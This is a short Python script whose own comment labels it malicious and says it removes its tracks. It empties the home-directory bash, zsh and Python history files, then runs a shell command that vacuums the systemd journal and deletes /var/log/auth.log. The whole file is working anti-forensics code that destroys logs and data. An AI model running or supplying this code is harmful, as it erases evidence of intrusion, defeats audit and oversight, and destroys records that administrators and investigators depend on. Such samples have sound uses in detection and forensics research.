# malicious: removes its tracks
import os
from pathlib import Path

for n in (".bash_history", ".zsh_history", ".python_history"):
    p = Path.home() / n
    if p.exists():
        p.write_text("")
os.system("journalctl --rotate && journalctl --vacuum-time=1s; rm -f /var/log/auth.log")
